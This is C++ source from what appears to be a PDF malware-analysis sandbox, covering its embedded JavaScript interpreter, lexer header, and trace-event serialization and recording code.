  auto obj = std::make_shared<JsObject>(JsObject::Kind::kArray);
  obj->elements() = std::move(elements);
  return obj;
}

ObjectPtr make_object() {
  return std::make_shared<JsObject>(JsObject::Kind::kPlain);
}

// ---------------------------------------------------------------------------
// Environment
// ---------------------------------------------------------------------------

void Environment::define_var(const std::string& name, Value v) {
  Environment* env = this;
  while (!env->function_scope_ && env->parent_) env = env->parent_.get();
  env->define(name, std::move(v));
}

Value* Environment::lookup(const std::string& name) {
  for (Environment* env = this; env; env = env->parent_.get()) {
    auto it = env->vars_.find(name);
    if (it != env->vars_.end()) return &it->second;
  }
  return nullptr;
}

void Environment::assign(const std::string& name, Value v) {
  for (Environment* env = this; env; env = env->parent_.get()) {
    auto it = env->vars_.find(name);
    if (it != env->vars_.end()) {
      it->second = std::move(v);
      return;
    }
  }
  global()->define(name, std::move(v));
}

Environment* Environment::global() {
  Environment* env = this;
  while (env->parent_) env = env->parent_.get();
  return env;
}

// ---------------------------------------------------------------------------
// Interpreter: conversions
// ---------------------------------------------------------------------------

bool Interpreter::to_boolean(const Value& v) {
  if (v.is_undefined() || v.is_null()) return false;
  if (v.is_bool()) return v.as_bool();
  if (v.is_number()) {
    const double d = v.as_number();
    return d != 0.0 && !std::isnan(d);
  }
  if (v.is_string()) return !v.as_string().empty();
  return true;  // objects are truthy
}

double Interpreter::to_number(const Value& v) {
  if (v.is_number()) return v.as_number();
  if (v.is_bool()) return v.as_bool() ? 1.0 : 0.0;
  if (v.is_null()) return 0.0;
  if (v.is_undefined()) return std::nan("");
  if (v.is_string()) {
    const std::string& s = v.as_string();
    if (s.empty()) return 0.0;
    char* end = nullptr;
    // Hex literals convert too ("0x40" -> 64).
    const double d = (s.size() > 2 && s[0] == '0' && (s[1] == 'x' || s[1] == 'X'))
                         ? static_cast<double>(std::strtoull(s.c_str(), &end, 16))
                         : std::strtod(s.c_str(), &end);
    if (end == s.c_str()) return std::nan("");
    while (*end == ' ' || *end == '\t' || *end == '\n' || *end == '\r') ++end;
    return *end == '\0' ? d : std::nan("");
  }
  return std::nan("");  // objects: skip valueOf protocol
}

std::string Interpreter::to_js_string(const Value& v) {
  if (v.is_string()) return v.as_string();
  if (v.is_undefined()) return "undefined";
  if (v.is_null()) return "null";
  if (v.is_bool()) return v.as_bool() ? "true" : "false";
  if (v.is_number()) return number_to_js_string(v.as_number());
  const ObjectPtr& obj = v.as_object();
  if (obj->is_array()) {
    std::string out;
    for (std::size_t i = 0; i < obj->elements().size(); ++i) {
      if (i) out.push_back(',');
      const Value& e = obj->elements()[i];
      if (!e.is_nullish()) out += to_js_string(e);
    }
    return out;
  }
  if (obj->is_function()) return "function";
  return "[object " + (obj->class_name.empty() ? "Object" : obj->class_name) + "]";
}

bool Interpreter::strict_equals(const Value& a, const Value& b) {
  if (a.repr().index() != b.repr().index()) return false;
  if (a.is_undefined() || a.is_null()) return true;
  if (a.is_bool()) return a.as_bool() == b.as_bool();
  if (a.is_number()) return a.as_number() == b.as_number();
  if (a.is_string()) return a.as_string() == b.as_string();
  return a.as_object() == b.as_object();
}

bool Interpreter::loose_equals(const Value& a, const Value& b) {
  if (a.repr().index() == b.repr().index()) return strict_equals(a, b);
  if (a.is_nullish() && b.is_nullish()) return true;
  if (a.is_nullish() || b.is_nullish()) return false;
  // Numeric coercion covers number/string/bool mixes.
  if (!a.is_object() && !b.is_object()) {
    return to_number(a) == to_number(b);
  }
  // Object vs primitive: compare via string conversion.
  return to_js_string(a) == to_js_string(b);
}

Value Interpreter::make_string(std::string s) {
  const std::size_t n = s.size();
  allocated_bytes_ += n;
  if (on_alloc) on_alloc(n);
  if (n >= large_string_threshold && on_large_string) on_large_string(s);
  return Value(std::move(s));
}

// ---------------------------------------------------------------------------
// Interpreter: execution
// ---------------------------------------------------------------------------

Interpreter::Interpreter() {
  global_env_ = make_env(nullptr);
  env_stack_.push_back(global_env_);
  this_stack_.push_back(Value());
  install_builtins(*this);
}

Interpreter::~Interpreter() {
  // Mark/sweep over every environment still alive: pin them first so
  // clearing one cannot destroy another mid-iteration, then drop all
  // bindings and parent links. This breaks the cycles closures form
  // (scope -> function object -> UserFunction::closure -> scope), which
  // shared_ptr alone never reclaims.
  std::vector<std::shared_ptr<Environment>> live;
  live.reserve(env_registry_.size());
  for (const auto& weak : env_registry_) {
    if (auto env = weak.lock()) live.push_back(std::move(env));
  }
  for (const auto& env : live) env->clear_for_teardown();
}

std::shared_ptr<Environment> Interpreter::make_env(
    std::shared_ptr<Environment> parent, bool function_scope) {
  auto env = std::make_shared<Environment>(std::move(parent), function_scope);
  if (env_registry_.size() >= env_compact_threshold_) {
    std::erase_if(env_registry_,
                  [](const std::weak_ptr<Environment>& w) { return w.expired(); });
    env_compact_threshold_ =
        std::max<std::size_t>(64, env_registry_.size() * 2);
  }
  env_registry_.push_back(env);
  return env;
}

void Interpreter::step() {
  if (++steps_ > step_limit_) {
    throw JsError("step limit exceeded (runaway script)");
  }
}

Value Interpreter::run_source(std::string_view source) {
  auto program = parse_js(source);
  return run(*program);
}

Value Interpreter::run(const Program& program) {
  for (const auto& stmt : program.body) exec(*stmt, global_env_);
  return Value();
}

Value Interpreter::eval_in_current_scope(std::string_view source) {
  auto program = parse_js(source);
  const auto env = env_stack_.back();
  Value last;
  for (const auto& stmt : program->body) {
    if (stmt->kind == StmtKind::kExpr) {
      last = eval(*stmt->expr, env);
    } else {
      exec(*stmt, env);
    }
  }
  return last;
}

void Interpreter::exec_block(const std::vector<StmtPtr>& body,
                             const std::shared_ptr<Environment>& env) {
  for (const auto& stmt : body) exec(*stmt, env);
}

void Interpreter::exec(const Stmt& stmt, const std::shared_ptr<Environment>& env) {
  step();
  switch (stmt.kind) {
    case StmtKind::kEmpty:
      return;
    case StmtKind::kExpr:
      eval(*stmt.expr, env);
      return;
    case StmtKind::kVarDecl:
      for (const auto& d : stmt.decls) {
        env->define_var(d.name, d.init ? eval(*d.init, env) : Value());
      }
      return;
    case StmtKind::kFunctionDecl: {
      auto fn = std::make_shared<JsObject>(JsObject::Kind::kFunction);
      fn->user = std::make_shared<UserFunction>();
      fn->user->node = stmt.function;
      fn->user->closure = env;
      env->define_var(stmt.function->name, Value(ObjectPtr(fn)));
      return;
    }
    case StmtKind::kIf:
      if (to_boolean(eval(*stmt.expr, env))) {
        exec(*stmt.body.front(), env);
      } else if (stmt.alt) {
        exec(*stmt.alt, env);
      }
      return;
    case StmtKind::kWhile:
      while (to_boolean(eval(*stmt.expr, env))) {
        step();
        try {
          exec(*stmt.body.front(), env);
        } catch (const BreakSignal&) {
          return;
        } catch (const ContinueSignal&) {
        }
      }
      return;
    case StmtKind::kDoWhile:
      do {
        step();
        try {
          exec(*stmt.body.front(), env);
        } catch (const BreakSignal&) {
          return;
        } catch (const ContinueSignal&) {
        }
      } while (to_boolean(eval(*stmt.expr, env)));
      return;
    case StmtKind::kFor: {
      auto scope = make_env(env);
      if (stmt.init) exec(*stmt.init, scope);
      while (!stmt.expr2 || to_boolean(eval(*stmt.expr2, scope))) {
        step();
        try {
          exec(*stmt.body.front(), scope);
        } catch (const BreakSignal&) {
          return;
        } catch (const ContinueSignal&) {
        }
        if (stmt.expr3) eval(*stmt.expr3, scope);
      }
      return;
    }
    case StmtKind::kForIn: {
      const Value obj = eval(*stmt.expr, env);
      auto scope = make_env(env);
      if (stmt.for_in_declares) scope->define_var(stmt.for_in_var, Value());
      std::vector<std::string> keys;
      if (obj.is_object()) {
        if (obj.as_object()->is_array()) {
          for (std::size_t i = 0; i < obj.as_object()->elements().size(); ++i) {
            keys.push_back(std::to_string(i));
          }
        }
        for (const auto& [k, v] : obj.as_object()->props()) keys.push_back(k);
      }
      for (const auto& k : keys) {
        step();
        scope->assign(stmt.for_in_var, Value(k));
        try {
          exec(*stmt.body.front(), scope);
        } catch (const BreakSignal&) {
          return;
        } catch (const ContinueSignal&) {
        }
      }
      return;
    }
    case StmtKind::kReturn:
      throw ReturnSignal{stmt.expr ? eval(*stmt.expr, env) : Value()};
    case StmtKind::kBreak:
      throw BreakSignal{};
    case StmtKind::kContinue:
      throw ContinueSignal{};
    case StmtKind::kBlock: {
      auto scope = make_env(env);
      exec_block(stmt.body, scope);
      return;
    }
    case StmtKind::kThrow:
      throw JsException(eval(*stmt.expr, env));
    case StmtKind::kTry: {
      auto run_finally = [&] {
        if (stmt.has_finally) {
          auto fin = make_env(env);
          exec_block(stmt.finally_body, fin);
        }
      };
      try {
        auto scope = make_env(env);
        exec_block(stmt.body, scope);
      } catch (const JsException& ex) {
        if (stmt.has_catch) {
          auto scope = make_env(env);
          if (!stmt.catch_param.empty()) scope->define(stmt.catch_param, ex.value());
          try {
            exec_block(stmt.catch_body, scope);
          } catch (...) {
            run_finally();
            throw;
          }
          run_finally();
          return;
        }
        run_finally();
        throw;
      } catch (...) {
        // Control-flow signals (return/break/continue) and host faults:
        // finally still runs, then the signal continues outward.
        run_finally();
        throw;
      }
      run_finally();
      return;
    }
    case StmtKind::kSwitch: {
      const Value subject = eval(*stmt.expr, env);
      auto scope = make_env(env);
      bool matched = false;
      try {
        for (const auto& c : stmt.cases) {
          if (!matched && c.test && strict_equals(subject, eval(*c.test, scope))) {
            matched = true;
          }
          if (matched) exec_block(c.body, scope);
        }
        if (!matched) {
          // Fall back to default (and fall through after it).
          bool in_default = false;
          for (const auto& c : stmt.cases) {
            if (!c.test) in_default = true;
            if (in_default) exec_block(c.body, scope);
          }
        }
      } catch (const BreakSignal&) {
      }
      return;
    }
  }
}

// ---------------------------------------------------------------------------
// Interpreter: expressions
// ---------------------------------------------------------------------------

Value Interpreter::eval(const Expr& expr, const std::shared_ptr<Environment>& env) {
  step();
  switch (expr.kind) {
    case ExprKind::kNumber:
      return Value(expr.number);
    case ExprKind::kString:
      return Value(expr.string_value);
    case ExprKind::kBool:
      return Value(expr.bool_value);
    case ExprKind::kNull:
      return Value(Null{});
    case ExprKind::kUndefined:
      return Value();
    case ExprKind::kThis:
      return this_stack_.back();
    case ExprKind::kIdentifier: {
      Value* v = env->lookup(expr.string_value);
      if (!v) {
        throw JsException(Value("ReferenceError: " + expr.string_value +
                                " is not defined"));
      }
      return *v;
    }
    case ExprKind::kArrayLiteral: {
      std::vector<Value> elems;
      elems.reserve(expr.args.size());
      for (const auto& e : expr.args) elems.push_back(eval(*e, env));
      allocated_bytes_ += elems.size() * sizeof(Value);
      if (on_alloc) on_alloc(elems.size() * sizeof(Value));
      return Value(make_array(std::move(elems)));
    }
    case ExprKind::kObjectLiteral: {
      auto obj = make_object();
      for (const auto& p : expr.props) obj->set(p.key, eval(*p.value, env));
      return Value(obj);
    }
    case ExprKind::kFunction: {
      auto fn = std::make_shared<JsObject>(JsObject::Kind::kFunction);
      fn->user = std::make_shared<UserFunction>();
      fn->user->node = expr.function;
      fn->user->closure = env;
      if (!expr.function->name.empty()) {
        // Named function expressions can self-reference.
        auto scope = make_env(env);
        scope->define(expr.function->name, Value(ObjectPtr(fn)));
        fn->user->closure = scope;
      }
      return Value(ObjectPtr(fn));
    }
    case ExprKind::kMember: {
      const Value obj = eval(*expr.a, env);
      const std::string key = expr.computed_member
                                  ? to_js_string(eval(*expr.b, env))
                                  : expr.string_value;
      return eval_member(obj, key);
    }
    case ExprKind::kCall:
      return eval_call(expr, env);
    case ExprKind::kNew: {
      // Constructor call: create a fresh object as `this`.
      const Value callee = eval(*expr.a, env);
      std::vector<Value> args;
      for (const auto& a : expr.args) args.push_back(eval(*a, env));
      if (!callee.is_object() || !callee.as_object()->is_function()) {
        throw JsException(Value("TypeError: not a constructor"));
      }
      auto obj = make_object();
      const Value result = call_function(callee, Value(obj), args);
      return result.is_object() ? result : Value(obj);
    }
    case ExprKind::kUnary: {
      if (expr.op == "typeof") {
        // typeof on an undeclared identifier must not throw.
        if (expr.a->kind == ExprKind::kIdentifier &&
            !env->lookup(expr.a->string_value)) {
          return Value("undefined");
        }
        const Value v = eval(*expr.a, env);
        if (v.is_undefined()) return Value("undefined");
        if (v.is_null()) return Value("object");
        if (v.is_bool()) return Value("boolean");
        if (v.is_number()) return Value("number");
        if (v.is_string()) return Value("string");
        return Value(v.as_object()->is_function() ? "function" : "object");
      }
      if (expr.op == "delete") {
        if (expr.a->kind == ExprKind::kMember) {
          const Value obj = eval(*expr.a->a, env);
          if (obj.is_object()) {
            const std::string key = expr.a->computed_member
                                        ? to_js_string(eval(*expr.a->b, env))
                                        : expr.a->string_value;
            return Value(obj.as_object()->erase(key));
          }
        }
        return Value(true);
      }
      const Value v = eval(*expr.a, env);
      if (expr.op == "!") return Value(!to_boolean(v));
      if (expr.op == "-") return Value(-to_number(v));
      if (expr.op == "+") return Value(to_number(v));
      if (expr.op == "~") {
        return Value(static_cast<double>(~static_cast<std::int32_t>(to_number(v))));
      }
      if (expr.op == "void") return Value();
      throw JsError("unknown unary operator " + expr.op);
    }
    case ExprKind::kUpdate: {
      // ++/-- on identifier or member.
      const double delta = expr.op == "++" ? 1.0 : -1.0;
      if (expr.a->kind == ExprKind::kIdentifier) {
        Value* slot = env->lookup(expr.a->string_value);
        if (!slot) {
          throw JsException(Value("ReferenceError: " + expr.a->string_value));
        }
        const double old = to_number(*slot);
        *slot = Value(old + delta);
        return Value(expr.prefix ? old + delta : old);
      }
      if (expr.a->kind == ExprKind::kMember) {
        const Value obj = eval(*expr.a->a, env);
        const std::string key = expr.a->computed_member
                                    ? to_js_string(eval(*expr.a->b, env))
                                    : expr.a->string_value;
        const double old = to_number(eval_member(obj, key));
        assign_member(obj, key, Value(old + delta));
        return Value(expr.prefix ? old + delta : old);
      }
      throw JsException(Value("SyntaxError: invalid update target"));
    }
    case ExprKind::kBinary: {
      const Value l = eval(*expr.a, env);
      const Value r = eval(*expr.b, env);
      return eval_binary(expr.op, l, r);
    }
    case ExprKind::kLogical: {
      const Value l = eval(*expr.a, env);
      if (expr.op == "&&") return to_boolean(l) ? eval(*expr.b, env) : l;
      return to_boolean(l) ? l : eval(*expr.b, env);
    }
    case ExprKind::kConditional:
      return to_boolean(eval(*expr.a, env)) ? eval(*expr.b, env)
                                            : eval(*expr.c, env);
    case ExprKind::kAssign: {
      Value rhs = eval(*expr.b, env);
      if (expr.a->kind == ExprKind::kIdentifier) {
        if (expr.op == "=") {
          env->assign(expr.a->string_value, rhs);
          return rhs;
        }
        Value* slot = env->lookup(expr.a->string_value);
        if (!slot) {
          throw JsException(Value("ReferenceError: " + expr.a->string_value));
        }
        Value result = apply_compound(expr.op, *slot, rhs);
        *slot = result;
        return result;
      }
      if (expr.a->kind == ExprKind::kMember) {
        const Value obj = eval(*expr.a->a, env);
        const std::string key = expr.a->computed_member
                                    ? to_js_string(eval(*expr.a->b, env))
                                    : expr.a->string_value;
        if (expr.op == "=") {
          assign_member(obj, key, rhs);
          return rhs;
        }
        const Value old = eval_member(obj, key);
        Value result = apply_compound(expr.op, old, rhs);
        assign_member(obj, key, result);
        return result;
      }
      throw JsException(Value("SyntaxError: invalid assignment target"));
    }
    case ExprKind::kComma:
      eval(*expr.a, env);
      return eval(*expr.b, env);
  }
  throw JsError("unhandled expression kind");
}

Value Interpreter::apply_compound(const std::string& op, const Value& old,
                                  const Value& rhs) {
  // "+=" etc: reuse the binary evaluator with the operator minus '='.
  return eval_binary(op.substr(0, op.size() - 1), old, rhs);
}

Value Interpreter::eval_binary(const std::string& op, const Value& l,
                               const Value& r) {
  if (op == "+") {
    if (l.is_string() || r.is_string() ||
        (l.is_object() && !r.is_object()) || (!l.is_object() && r.is_object()) ||
        (l.is_object() && r.is_object())) {
      return make_string(to_js_string(l) + to_js_string(r));
    }
    return Value(to_number(l) + to_number(r));
  }
  if (op == "-") return Value(to_number(l) - to_number(r));
  if (op == "*") return Value(to_number(l) * to_number(r));
  if (op == "/") return Value(to_number(l) / to_number(r));
  if (op == "%") return Value(std::fmod(to_number(l), to_number(r)));
  if (op == "==") return Value(loose_equals(l, r));
  if (op == "!=") return Value(!loose_equals(l, r));
  if (op == "===") return Value(strict_equals(l, r));
  if (op == "!==") return Value(!strict_equals(l, r));
  if (op == "<" || op == ">" || op == "<=" || op == ">=") {
    if (l.is_string() && r.is_string()) {
      const int c = l.as_string().compare(r.as_string());
      if (op == "<") return Value(c < 0);
      if (op == ">") return Value(c > 0);
      if (op == "<=") return Value(c <= 0);
      return Value(c >= 0);
    }
    const double a = to_number(l), b = to_number(r);
    if (std::isnan(a) || std::isnan(b)) return Value(false);
    if (op == "<") return Value(a < b);
    if (op == ">") return Value(a > b);
    if (op == "<=") return Value(a <= b);
    return Value(a >= b);
  }
  if (op == "&" || op == "|" || op == "^" || op == "<<" || op == ">>" ||
      op == ">>>") {
    const std::int32_t a = static_cast<std::int32_t>(to_number(l));
    const std::int32_t b = static_cast<std::int32_t>(to_number(r));
    if (op == "&") return Value(static_cast<double>(a & b));
    if (op == "|") return Value(static_cast<double>(a | b));
    if (op == "^") return Value(static_cast<double>(a ^ b));
    const int shift = b & 31;
    if (op == "<<") return Value(static_cast<double>(a << shift));
    if (op == ">>") return Value(static_cast<double>(a >> shift));
    return Value(static_cast<double>(static_cast<std::uint32_t>(a) >> shift));
  }
  if (op == "in") {
    if (r.is_object()) {
      const std::string key = l.is_string() ? l.as_string() : to_js_string(l);
      if (r.as_object()->is_array()) {
        const double idx = to_number(l);
        if (idx >= 0 && idx < static_cast<double>(r.as_object()->elements().size())) {
          return Value(true);
        }
      }
      return Value(r.as_object()->has(key));
    }
    return Value(false);
  }
  if (op == "instanceof") {
    // Class-name check is enough for the corpus (x instanceof Array).
    return Value(l.is_object() && r.is_object());
  }
  throw JsError("unknown binary operator " + op);
}

Value Interpreter::eval_call(const Expr& expr, const std::shared_ptr<Environment>& env) {
  Value this_value;
  Value callee;
  if (expr.a->kind == ExprKind::kMember) {
    this_value = eval(*expr.a->a, env);
    const std::string key = expr.a->computed_member
                                ? to_js_string(eval(*expr.a->b, env))
                                : expr.a->string_value;
    callee = eval_member(this_value, key);
    if (callee.is_undefined()) {
      throw JsException(Value("TypeError: " + key + " is not a function"));
    }
  } else {
    callee = eval(*expr.a, env);
  }
  std::vector<Value> args;
  args.reserve(expr.args.size());
  for (const auto& a : expr.args) args.push_back(eval(*a, env));

  // eval() runs in the caller's scope, so push it before dispatch.
  env_stack_.push_back(env);
  struct PopEnv {
    std::vector<std::shared_ptr<Environment>>& stack;
    ~PopEnv() { stack.pop_back(); }
  } pop{env_stack_};

  return call_function(callee, this_value, args);
}

Value Interpreter::call_function(const Value& fn, const Value& this_value_in,
                                 const std::vector<Value>& args) {
  if (!fn.is_object() || !fn.as_object()->is_function()) {
    throw JsException(Value("TypeError: value is not a function"));
  }
  // Sloppy-mode semantics: a plain call gets the global `this` (Acrobat
  // binds it to the Doc), not undefined.
  Value this_value = this_value_in;
  if (this_value.is_undefined() && !this_stack_.empty()) {
    this_value = this_stack_.front();
  }
  const ObjectPtr& obj = fn.as_object();
  if (obj->native) {
    this_stack_.push_back(this_value);
    struct PopThis {
      std::vector<Value>& stack;
      ~PopThis() { stack.pop_back(); }
    } pop{this_stack_};
    return obj->native(*this, this_value, args);
  }
  if (!obj->user) throw JsError("function object has no implementation");

  auto scope = make_env(obj->user->closure, /*function_scope=*/true);
  const auto& params = obj->user->node->params;
  for (std::size_t i = 0; i < params.size(); ++i) {
    scope->define(params[i], i < args.size() ? args[i] : Value());
  }
  // `arguments` array.
  scope->define("arguments", Value(make_array(args)));

  env_stack_.push_back(scope);
  this_stack_.push_back(this_value);
  struct PopBoth {
    Interpreter& in;
    ~PopBoth() {
      in.env_stack_.pop_back();
      in.this_stack_.pop_back();
    }
  } pop{*this};

  try {
    exec_block(obj->user->node->body, scope);
  } catch (ReturnSignal& ret) {
    return std::move(ret.value);
  }
  return Value();
}

Value Interpreter::eval_member(const Value& object, const std::string& key) {
  if (object.is_string()) return string_member(object.as_string(), key);
  if (object.is_number() || object.is_bool()) return Value();
  if (object.is_nullish()) {
    throw JsException(Value("TypeError: cannot read property '" + key +
                            "' of " + (object.is_null() ? "null" : "undefined")));
  }
  const ObjectPtr& obj = object.as_object();
  if (obj->is_array()) return array_member(obj, key);
  return obj->get(key);
}

void Interpreter::assign_member(const Value& object, const std::string& key,
                                Value v) {
  if (!object.is_object()) {
    if (object.is_nullish()) {
      throw JsException(Value("TypeError: cannot set property of " +
                              std::string(object.is_null() ? "null" : "undefined")));
    }
    return;  // writes to primitives are silently dropped
  }
  const ObjectPtr& obj = object.as_object();
  if (obj->is_array()) {
    if (key == "length") {
      const auto n = static_cast<std::size_t>(to_number(v));
      obj->elements().resize(n);
      return;
    }
    char* end = nullptr;
    const long idx = std::strtol(key.c_str(), &end, 10);
    if (end && *end == '\0' && idx >= 0) {
      if (static_cast<std::size_t>(idx) >= obj->elements().size()) {
        obj->elements().resize(static_cast<std::size_t>(idx) + 1);
        allocated_bytes_ += sizeof(Value);
      }
      obj->elements()[static_cast<std::size_t>(idx)] = std::move(v);
      return;
    }
  }
  obj->set(key, std::move(v));
}

}  // namespace pdfshield::js
