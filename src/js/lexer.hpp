// Tokenizer for the ECMAScript subset: identifiers/keywords, numeric
// literals (decimal, hex, float, exponent), string literals with the full
// escape set malicious scripts rely on (\xNN, \uNNNN, octal), operators,
// and // and /* */ comments.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "support/error.hpp"

namespace pdfshield::js {

enum class JsTokenKind {
  kEof,
  kNumber,
  kString,
  kIdentifier,
  kKeyword,
  kPunct,
};

struct JsToken {
  JsTokenKind kind = JsTokenKind::kEof;
  std::string text;  ///< identifier/keyword/punct spelling, string value
  double number = 0;
  std::size_t offset = 0;
  std::size_t line = 1;
};

/// Tokenizes a whole script up front. Throws ParseError on malformed input.
std::vector<JsToken> tokenize_js(std::string_view source);

/// True if `word` is a reserved keyword in our subset.
bool is_js_keyword(std::string_view word);

}  // namespace pdfshield::js
