#include "trace/trace.hpp"

#include <cstdio>

namespace pdfshield::trace {

std::string_view kind_name(Kind kind) {
  switch (kind) {
    case Kind::kApiCall: return "api-call";
    case Kind::kHookVerdict: return "hook-verdict";
    case Kind::kSoapMessage: return "soap-message";
    case Kind::kJsContext: return "js-context";
    case Kind::kPhaseSpan: return "phase-span";
    case Kind::kFeatureFire: return "feature-fire";
    case Kind::kConfinement: return "confinement";
    case Kind::kDocVerdict: return "doc-verdict";
    case Kind::kCounter: return "counter";
    case Kind::kAdmission: return "admission";
    case Kind::kDegradation: return "degradation";
  }
  return "unknown";
}

void append_json_string(std::string& out, std::string_view text) {
  out += '"';
  for (char c : text) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof(buf), "\\u%04x",
                        static_cast<unsigned>(static_cast<unsigned char>(c)));
          out += buf;
        } else {
          out += c;
        }
    }
  }
  out += '"';
}

namespace {

void append_double(std::string& out, double value) {
  char buf[32];
  std::snprintf(buf, sizeof(buf), "%.9g", value);
  out += buf;
}

void append_field(std::string& out, std::string_view key,
                  std::string_view value) {
  out += ',';
  append_json_string(out, key);
  out += ':';
  append_json_string(out, value);
}

void append_field(std::string& out, std::string_view key, std::uint64_t value) {
  out += ',';
  append_json_string(out, key);
  out += ':';
  out += std::to_string(value);
}

void append_field(std::string& out, std::string_view key, bool value) {
  out += ',';
  append_json_string(out, key);
  out += value ? ":true" : ":false";
}

void append_field(std::string& out, std::string_view key, double value) {
  out += ',';
  append_json_string(out, key);
  out += ':';
  append_double(out, value);
}

struct PayloadWriter {
  std::string& out;

  void operator()(const ApiCall& p) const {
    append_field(out, "pid", static_cast<std::uint64_t>(p.pid));
    append_field(out, "api", p.api);
    out += ",\"args\":[";
    for (std::size_t i = 0; i < p.args.size(); ++i) {
      if (i) out += ',';
      append_json_string(out, p.args[i]);
    }
    out += ']';
    append_field(out, "memory_bytes", p.memory_bytes);
    append_field(out, "post", p.post);
  }
  void operator()(const HookVerdict& p) const {
    append_field(out, "api", p.api);
    append_field(out, "blocked", p.blocked);
  }
  void operator()(const SoapMessage& p) const {
    append_field(out, "op", p.op);
    append_field(out, "authenticated", p.authenticated);
    append_field(out, "foreign", p.foreign);
  }
  void operator()(const JsContext& p) const {
    append_field(out, "enter", p.enter);
    append_field(out, "memory_bytes", p.memory_bytes);
  }
  void operator()(const PhaseSpan& p) const {
    append_field(out, "phase", p.phase);
    append_field(out, "begin", p.begin);
    append_field(out, "elapsed_s", p.elapsed_s);
  }
  void operator()(const FeatureFire& p) const {
    append_field(out, "feature", p.feature);
    append_field(out, "why", p.why);
    append_field(out, "in_js", p.in_js);
  }
  void operator()(const Confinement& p) const {
    append_field(out, "action", p.action);
    append_field(out, "target", p.target);
  }
  void operator()(const DocVerdict& p) const {
    append_field(out, "verdict", p.verdict);
    append_field(out, "malscore", p.malscore);
    append_field(out, "alerted", p.alerted);
  }
  void operator()(const CounterSample& p) const {
    append_field(out, "counter", p.counter);
    append_field(out, "value", p.value);
  }
  void operator()(const Admission& p) const {
    append_field(out, "accepted", p.accepted);
    if (!p.reason.empty()) append_field(out, "reason", p.reason);
    append_field(out, "inflight_docs", p.inflight_docs);
    append_field(out, "inflight_bytes", p.inflight_bytes);
  }
  void operator()(const Degradation& p) const {
    append_field(out, "entered", p.entered);
    append_field(out, "queue_depth", p.queue_depth);
  }
};

}  // namespace

std::string to_jsonl(const Event& event) {
  std::string out;
  out.reserve(160);
  out += "{\"kind\":";
  append_json_string(out, kind_name(event.kind()));
  append_field(out, "seq", event.seq);
  append_field(out, "t_ns", event.t_ns);
  if (!event.session.empty()) append_field(out, "session", event.session);
  if (!event.doc.empty()) append_field(out, "doc", event.doc);
  std::visit(PayloadWriter{out}, event.payload);
  out += '}';
  return out;
}

}  // namespace pdfshield::trace
