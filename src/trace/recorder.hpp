// Recorder + sinks for the trace spine.
//
// A Recorder stamps events (sequence number, steady-clock offset,
// session/doc correlation ids) and fans them out to sinks. The intended
// deployment is one recorder per execution context — the kernel of one
// simulated session, or one document inside a batch worker — so the hot
// path is a single atomic increment plus the sinks' own (uncontended)
// locks; recorders are nevertheless fully thread-safe because kernel
// hooks may fire from watchdog and worker threads alike.
//
// Sinks:
//   RingSink     bounded in-memory ring (keeps the most recent N events,
//                counts what it evicted) — forensics and tests;
//   JsonlSink    one JSON object per line to a stream/file — the
//                `--trace out.jsonl` surface;
//   CounterSink  per-kind aggregate counters — run-level summaries.
#pragma once

#include <array>
#include <atomic>
#include <chrono>
#include <cstdint>
#include <memory>
#include <mutex>
#include <ostream>
#include <string>
#include <vector>

#include "support/json.hpp"
#include "trace/trace.hpp"

namespace pdfshield::trace {

class Sink {
 public:
  virtual ~Sink() = default;
  virtual void on_event(const Event& event) = 0;
};

/// Bounded ring: keeps the most recent `capacity` events; older ones are
/// evicted and counted, never silently forgotten.
class RingSink final : public Sink {
 public:
  explicit RingSink(std::size_t capacity);

  void on_event(const Event& event) override;

  /// Retained events, oldest first.
  std::vector<Event> snapshot() const;
  std::size_t size() const;
  std::size_t capacity() const { return capacity_; }
  /// Events evicted to make room (total recorded - retained).
  std::uint64_t dropped() const;

 private:
  mutable std::mutex mutex_;
  std::vector<Event> ring_;
  std::size_t capacity_;
  std::uint64_t total_ = 0;  ///< events ever recorded
};

/// One compact JSON object per line. Writes are mutex-serialized so
/// concurrent recorders can share one file; lines never interleave.
class JsonlSink final : public Sink {
 public:
  /// Writes to a caller-owned stream (kept alive by the caller).
  explicit JsonlSink(std::ostream& out);
  /// Opens `path` for writing; throws support::Error on failure.
  static std::shared_ptr<JsonlSink> open(const std::string& path);

  void on_event(const Event& event) override;
  std::uint64_t lines_written() const;

 private:
  JsonlSink() = default;
  mutable std::mutex mutex_;
  std::unique_ptr<std::ostream> owned_;
  std::ostream* out_ = nullptr;
  std::uint64_t lines_ = 0;
};

/// Lock-free per-kind event counters (aggregate view across recorders).
class CounterSink final : public Sink {
 public:
  void on_event(const Event& event) override;
  std::uint64_t count(Kind kind) const;
  std::uint64_t total() const;

 private:
  std::array<std::atomic<std::uint64_t>, kKindCount> counts_{};
};

/// Counter snapshot: totals per kind plus ring-drop accounting. Used for
/// the per-document summaries in BatchReport and the CLI's per-run line.
struct CounterSnapshot {
  std::uint64_t total = 0;
  std::uint64_t dropped = 0;  ///< ring evictions (0 without a ring)
  std::array<std::uint64_t, kKindCount> by_kind{};

  support::Json to_json() const;
  /// "42 events (api-call 10, soap-message 4, ...), 0 dropped"
  std::string summary() const;
};

class Recorder {
 public:
  /// `ring_capacity` == 0 builds a recorder without a retained ring (pure
  /// fan-out + counters) — what the batch front-end uses.
  explicit Recorder(std::string session = {}, std::size_t ring_capacity = 0);

  /// Sinks must be attached before recording starts (not synchronized
  /// against concurrent record() calls).
  void add_sink(std::shared_ptr<Sink> sink);

  void set_session(std::string session);
  const std::string& session() const { return session_; }

  /// Document correlation context: events recorded without an explicit doc
  /// id inherit the current context (the reader sets it around each
  /// open_document; batch workers set it per item).
  void set_doc(std::string doc);
  std::string doc() const;

  /// Records `payload` under the current doc context.
  void record(Payload payload);
  /// Records `payload` for an explicit document id.
  void record_for(std::string doc, Payload payload);

  /// Ring snapshot (empty without a ring).
  std::vector<Event> events() const;
  std::uint64_t ring_dropped() const;

  /// Per-kind totals for everything this recorder stamped.
  CounterSnapshot counters() const;

 private:
  void emit(std::string doc, Payload payload);

  std::string session_;
  std::shared_ptr<RingSink> ring_;  ///< null when ring_capacity == 0
  std::vector<std::shared_ptr<Sink>> sinks_;
  std::atomic<std::uint64_t> seq_{0};
  std::array<std::atomic<std::uint64_t>, kKindCount> counts_{};
